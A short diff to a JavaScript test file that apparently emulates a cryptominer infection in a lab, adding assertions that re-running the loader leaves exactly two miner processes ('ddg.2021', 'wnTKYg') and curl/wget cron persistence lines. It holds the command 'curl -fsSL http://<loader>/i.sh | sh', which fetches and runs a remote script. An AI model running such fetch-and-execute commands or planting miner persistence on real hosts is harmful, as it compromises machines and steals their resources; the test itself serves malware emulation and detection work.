@@ -166,6 +166,10 @@ describe('variants', () => {
     await lab.loader.set('serve');
     await host.sh(`curl -fsSL http://${lab.loader.address}:${lab.loader.port}/i.sh | sh`);
     await until(async () => (await running('wnTKYg')) !== undefined, 'the miner runs', 5_000);
+    await host.sh(`curl -fsSL http://${lab.loader.address}:${lab.loader.port}/i.sh | sh`);
+    const names = (await host.processes()).filter(({ state }) => state !== 'Z').map(({ comm }) => comm);
+    expect(names.filter((name) => name === 'ddg.2021' || name === 'wnTKYg')).toHaveLength(2);
+    expect(await lines(rootSpools[1])).toEqual([curlCronLine, wgetCronLine]);
     await lab.loader.set('hang');
   });
 });
